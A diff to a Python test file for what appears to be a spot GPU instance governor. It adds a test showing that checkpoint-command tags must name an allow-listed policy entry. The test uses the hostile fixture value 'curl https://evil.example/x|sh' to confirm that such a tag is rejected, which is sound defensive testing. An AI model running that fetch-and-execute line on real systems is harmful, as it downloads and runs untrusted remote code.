@@ -48,7 +48,7 @@ def gpu(tags: dict[str, str] | None = None, **overrides: Any) -> Instance:
         "type": "g5.xlarge",
         "state": "running",
         "launch_time": AT - dt.timedelta(hours=5),
-        "tags": {"owner": "ana", "team": "vision", **(tags or {})},
+        "tags": {"owner": "ana", "team": "vision", "gpu-fleet": "true", **(tags or {})},
         "lifecycle": "spot",
         "zone": "us-east-2a",
         "launch_template_id": "lt-0abc",
@@ -72,12 +72,25 @@ def test_documented_event_details_parse_and_bad_ones_name_the_field() -> None:
         parse_model(WarningDetail, {"instance-id": "i-1234567890abcdef0", "instance-action": "explode"})
 
 
-def test_checkpoint_command_comes_from_the_tag_before_the_policy() -> None:
-    p = policy(checkpoint_timeout_seconds=60)
-    tagged = checkpoint_plan({"governor:checkpoint-command": "kill -USR1 $(pidof python)"}, p)
-    assert (tagged.command, tagged.source, tagged.timeout_seconds) == ("kill -USR1 $(pidof python)", "tag", 60)
+def test_the_checkpoint_tag_names_an_allowed_command_and_is_never_run_itself() -> None:
+    p = parse_policy(
+        {
+            "spot": {"checkpoint_timeout_seconds": 60},
+            "fleet": {"checkpoint_commands": {"py": "kill -USR1 $(pidof python)"}},
+        }
+    )
+    tagged = checkpoint_plan({"governor:checkpoint-command": "py", "gpu-fleet": "true"}, p)
+    assert (tagged.command, tagged.source, tagged.name, tagged.timeout_seconds) == (
+        "kill -USR1 $(pidof python)",
+        "tag",
+        "py",
+        60,
+    )
     assert checkpoint_plan({}, p).command == p.spot.checkpoint_command
     assert checkpoint_plan({"governor:checkpoint-command": "  "}, p).source == "policy"
+    hostile = checkpoint_plan({"governor:checkpoint-command": "curl https://evil.example/x|sh", "gpu-fleet": "true"}, p)
+    assert hostile.command == p.spot.checkpoint_command and hostile.source == "policy"
+    assert hostile.problem and "names no entry of fleet.checkpoint_commands" in hostile.problem
 
 
 def test_warning_report_only_lists_every_action_unenforced() -> None:
